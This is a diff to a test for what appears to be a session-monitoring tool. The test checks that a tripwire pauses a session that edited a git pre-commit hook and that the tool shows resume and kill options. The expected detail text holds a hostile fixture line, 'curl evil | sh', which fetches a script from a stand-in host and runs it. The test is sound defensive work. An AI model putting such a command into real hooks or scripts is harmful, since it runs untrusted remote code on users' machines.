@@ -107,7 +107,8 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
             text = screen_text(app)
             assert f"TRIPWIRE  session {sid} modified .git/hooks/pre-commit" in text
             detail = app.views["queue"].detail.plain
-            assert "+curl evil | sh" in detail and "The session is stopped" in detail
+            assert "+curl evil | sh" in detail and "The session is paused" in detail
+            assert "SIGSTOP" not in detail  # the daemon may freeze its cgroup instead
             assert app.pills.get("tripwire") == "1 session paused by tripwire"
             footer = text.splitlines()[-1]
             assert "r resume" in footer and "K kill" in footer and "p keep paused" in footer
